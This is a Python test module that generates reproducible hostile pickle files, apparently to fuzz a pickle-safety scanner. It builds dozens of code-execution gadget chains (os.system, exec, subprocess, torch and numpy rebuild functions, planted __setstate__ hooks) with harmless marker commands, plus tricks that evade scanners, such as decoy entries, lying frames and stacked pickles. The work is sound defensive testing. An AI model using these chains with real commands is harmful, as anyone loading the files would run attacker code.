"""A seeded generator of hostile pickles around marker payloads (each creates ``PAYLOAD_RAN`` in the
working directory if it runs). Nothing here unpickles anything; the oracle harness loads the samples in a
throwaway subprocess.

A sample is a payload body (opcodes that leave one value on the stack after running the marker call),
wrapped by a prefix of harmless opcodes in the odd forms CPython accepts, a protocol header, framing,
a STOP and sometimes trailing bytes or a second pickle.
"""

from __future__ import annotations

import random
import struct
import zipfile
from collections.abc import Callable
from io import BytesIO

CMD = "touch PAYLOAD_RAN"
PY = "open('PAYLOAD_RAN', 'w').close()"


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def ustr(text: str) -> bytes:
    data = text.encode()
    return (b"\x8c" + bytes([len(data)]) + data) if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data


def sstr(text: str) -> bytes:
    return b"S" + repr(text).encode() + b"\n"


def vstr(text: str) -> bytes:
    escaped = "".join(c if 32 <= ord(c) < 127 and c != "\\" else f"\\u{ord(c):04x}" for c in text)
    return b"V" + escaped.encode("ascii") + b"\n"


def call1(func: bytes, arg: bytes) -> bytes:
    return func + b"(" + arg + b"tR"


def stack_global(module: str, name: str) -> bytes:
    return ustr(module) + ustr(name) + b"\x93"


def stack_global_memo(module: str, name: str) -> bytes:
    return ustr(module) + b"\x94" + ustr(name) + b"\x94" + b"00" + b"h\x00h\x01\x93"  # needs fresh memo


# --- payload bodies: each pushes the result of a marker-creating call -------------------------------------
def _os_system(s: Callable[[str], bytes]) -> bytes:
    return call1(glob("os", "system"), s(CMD))


def _posix_system(s: Callable[[str], bytes]) -> bytes:
    return call1(glob("posix", "system"), s(CMD))


def _exec(s: Callable[[str], bytes]) -> bytes:
    return call1(glob("builtins", "exec"), s(PY))


def _eval(s: Callable[[str], bytes]) -> bytes:
    return call1(glob("builtins", "eval"), s(PY))


def _py2_exec(s: Callable[[str], bytes]) -> bytes:
    return call1(glob("__builtin__", "exec"), s(PY))  # fix_imports maps it for protocols < 3


def _subprocess(s: Callable[[str], bytes]) -> bytes:
    return glob("subprocess", "call") + b"((" + s("touch") + s("PAYLOAD_RAN") + b"ltR"


def _getattr_chain(s: Callable[[str], bytes]) -> bytes:
    module = call1(glob("builtins", "__import__"), s("os"))
    system = glob("builtins", "getattr") + b"(" + module + s("system") + b"tR"
    return system + b"(" + s(CMD) + b"tR"


def _stack_global(s: Callable[[str], bytes]) -> bytes:
    return stack_global("os", "system") + b"(" + s(CMD) + b"tR"


def _inst(s: Callable[[str], bytes]) -> bytes:
    return b"(" + s(CMD) + b"ios\nsystem\n"


def _obj(s: Callable[[str], bytes]) -> bytes:
    return b"(" + glob("os", "system") + s(CMD) + b"o"


def _reconstructor(s: Callable[[str], bytes]) -> bytes:
    # copyreg._reconstructor(Popen, Popen, ["touch", "PAYLOAD_RAN"]): runs Popen.__init__.
    popen = glob("subprocess", "Popen")
    return glob("copyreg", "_reconstructor") + b"(" + popen + popen + b"(" + s("touch") + s("PAYLOAD_RAN") + b"ltR"


def _rebuild_from_type(s: Callable[[str], bytes]) -> bytes:
    return (glob("torch._tensor", "_rebuild_from_type_v2") + b"(" + glob("os", "system") + glob("torch", "Tensor")
            + b"(" + s(CMD) + b"t" + b"}" + b"tR")


def _randomstate(s: Callable[[str], bytes]) -> bytes:
    return glob("numpy.random._pickle", "__randomstate_ctor") + b"(" + s(CMD) + glob("os", "system") + b"tR"


def _map_list(s: Callable[[str], bytes]) -> bytes:
    mapped = glob("builtins", "map") + b"(" + glob("os", "system") + b"(" + s(CMD) + b"ltR"
    return glob("builtins", "list") + b"(" + mapped + b"tR"


def _setstate_injection(s: Callable[[str], bytes]) -> bytes:
    obj = glob("argparse", "Namespace") + b")R"
    return obj + b"(" + s("__setstate__") + glob("os", "system") + b"db" + s(CMD) + b"b"


def _nested_loads(s: Callable[[str], bytes]) -> bytes:
    inner = "cos\nsystem\n(S'" + CMD + "'\ntR."
    encoded = glob("_codecs", "encode") + b"(" + s(inner) + s("latin1") + b"tR"
    return glob("pickle", "loads") + b"(" + encoded + b"tR"


def _nested_utf8(s: Callable[[str], bytes]) -> bytes:
    # _codecs.encode(text) defaults to UTF-8: the inner bytes differ from a latin-1 reading of the text.
    inner = "X\x05\x00\x00\x00\u0100abc" + "0cos\nsystem\n(S'" + CMD + "'\ntR."
    return glob("pickle", "loads") + b"(" + glob("_codecs", "encode") + b"(" + vstr(inner) + b"tRtR"


# pathlib.PosixPath.touch is not on any deny list and pathlib.PosixPath is on the safe list: only a verdict
# that treats every call of an unknown callable as high catches these (protocol 4+ resolves dotted names).
def _path(s: Callable[[str], bytes]) -> bytes:
    return call1(glob("pathlib", "PosixPath"), s("PAYLOAD_RAN"))


_TOUCH = glob("pathlib", "PosixPath.touch")


def _touch(s: Callable[[str], bytes]) -> bytes:
    return _TOUCH + b"(" + _path(s) + b"tR"


def _touch_rebuild(s: Callable[[str], bytes]) -> bytes:
    return (glob("torch._tensor", "_rebuild_from_type_v2") + b"(" + _TOUCH + glob("torch", "Tensor")
            + b"(" + _path(s) + b"t}tR")


def _touch_randomstate(s: Callable[[str], bytes]) -> bytes:
    return glob("numpy.random._pickle", "__randomstate_ctor") + b"(" + _path(s) + _TOUCH + b"tR"


def _touch_dill_array(s: Callable[[str], bytes]) -> bytes:
    return glob("dill._dill", "_create_array") + b"(" + _TOUCH + b"(" + _path(s) + b"tNtR"


def _touch_setstate_decoys(s: Callable[[str], bytes]) -> bytes:
    decoys = b"".join(s(f"k{i}") + b"N" for i in range(200))
    obj = glob("argparse", "Namespace") + b")R"
    # Two SETITEMS batches, as the pickler writes big dicts: the plant comes after the decoys.
    return obj + b"}(" + decoys + b"u(" + s("__setstate__") + _TOUCH + b"ub" + _path(s) + b"b"


def _touch_setstate_memo(s: Callable[[str], bytes]) -> bytes:
    # The state dict is built (and memoised) before the object, then fetched back with GET.
    state = b"}p900\n(" + s("__setstate__") + _TOUCH + b"u0"
    obj = glob("argparse", "Namespace") + b")R"
    return state + obj + b"g900\nb" + _path(s) + b"b"


def _touch_append_plant(s: Callable[[str], bytes]) -> bytes:
    # APPENDS on an object that is not a list calls obj.append, looked up on the instance.
    obj = glob("argparse", "Namespace") + b")R"
    return obj + b"(" + s("append") + _TOUCH + b"db(" + _path(s) + b"e"


def _touch_slotstate_plant(s: Callable[[str], bytes]) -> bytes:
    # BUILD's (state, slotstate) form: setattr for the second dict, then a BUILD calls the planted hook.
    obj = glob("argparse", "Namespace") + b")R"
    return obj + b"N(" + s("__setstate__") + _TOUCH + b"d\x86b" + _path(s) + b"b"


PAYLOADS: dict[str, Callable[[Callable[[str], bytes]], bytes]] = {
    "touch_append_plant": _touch_append_plant, "touch_slotstate_plant": _touch_slotstate_plant,
    "touch": _touch, "touch_rebuild": _touch_rebuild, "touch_randomstate": _touch_randomstate,
    "touch_dill_array": _touch_dill_array, "touch_setstate_decoys": _touch_setstate_decoys,
    "touch_setstate_memo": _touch_setstate_memo,
    "os_system": _os_system, "posix_system": _posix_system, "exec": _exec, "eval": _eval, "py2_exec": _py2_exec,
    "subprocess": _subprocess, "getattr_chain": _getattr_chain, "stack_global": _stack_global, "inst": _inst,
    "obj": _obj, "reconstructor": _reconstructor, "rebuild_from_type": _rebuild_from_type,
    "randomstate": _randomstate, "map_list": _map_list, "setstate_injection": _setstate_injection,
    "nested_loads": _nested_loads, "nested_utf8": _nested_utf8,
}
STRINGS: dict[str, Callable[[str], bytes]] = {"short": ustr, "quoted": sstr, "unicode": vstr}

# Harmless prefixes in the odd literal forms CPython accepts (each leaves the stack as it found it).
PREFIXES: dict[str, bytes] = {
    "none": b"", "hex_int": b"I0x1f\n0", "octal_int": b"I010\n0", "underscore_long": b"L1_000L\n0",
    "nul_int": b"I7\x00junk\n0", "bool_int": b"I01\n0", "float_nul": b"F1.5\x00x\n0", "inf": b"Finf\n0",
    "mark_popmark": b"(N1", "pop_mark": b"(0", "dup_pop": b"N20", "unicode": b"Vab\\u0041\n0",
    "string_escape": b"S'\\x41\\n'\n0", "memo_put": b"Np0\n0", "long_text": b"S'" + b"a" * 5000 + b"'\n0",
    "text_like": b"(lp0\n0",
}


def frame(body: bytes, length: int | None = None) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body) if length is None else length) + body


def build(payload: str, string: str, prefix: str, protocol: int, framing: str, suffix: str) -> bytes:
    body = PREFIXES[prefix] + PAYLOADS[payload](STRINGS[string]) + b"."
    if framing == "frame" and protocol >= 4:
        body = frame(body)
    elif framing == "lying_frame" and protocol >= 4:
        body = frame(body[:3], 3) + body[3:]  # the frame claims 3 bytes; C reads on regardless
    if payload.startswith("touch"):
        protocol = max(protocol, 4)  # dotted names resolve from protocol 4 on
    head = b"" if protocol < 2 else b"\x80" + bytes([protocol])
    data = head + body
    if suffix == "trailing":
        data += b"\x00garbage"
    elif suffix == "stacked":
        data = b"\x80\x04N." + data  # a benign first pickle; the payload is the second
    return data


def torch_zip(data_pkl: bytes) -> bytes:
    buf = BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", data_pkl)
        zf.writestr("archive/byteorder", "little")
        zf.writestr("archive/version", "3\n")
    return buf.getvalue()


def samples(seed: int, count: int) -> list[tuple[str, bytes, str]]:
    """``count`` (name, bytes, loader) triples, the same for the same seed."""
    rng = random.Random(seed)  # noqa: S311 - reproducible test data, not secrets
    out: list[tuple[str, bytes, str]] = []
    loaders = ("pickle", "pickle", "pickle-py", "pickle-stream", "pandas", "joblib", "numpy", "torch")
    for i in range(count):
        payload = rng.choice(sorted(PAYLOADS))
        string = rng.choice(sorted(STRINGS))
        prefix = rng.choice(sorted(PREFIXES))
        protocol = rng.choice((0, 1, 2, 3, 4, 5))
        framing = rng.choice(("none", "frame", "lying_frame"))
        suffix = rng.choice(("none", "none", "trailing", "stacked"))
        loader = rng.choice(loaders)
        data = build(payload, string, prefix, protocol, framing, suffix)
        if loader == "torch" and rng.random() < 0.5:
            data = torch_zip(data)
        name = f"{i:04d}-{payload}-{string}-{prefix}-p{protocol}-{framing}-{suffix}-{loader}"
        out.append((name, data, loader))
    return out
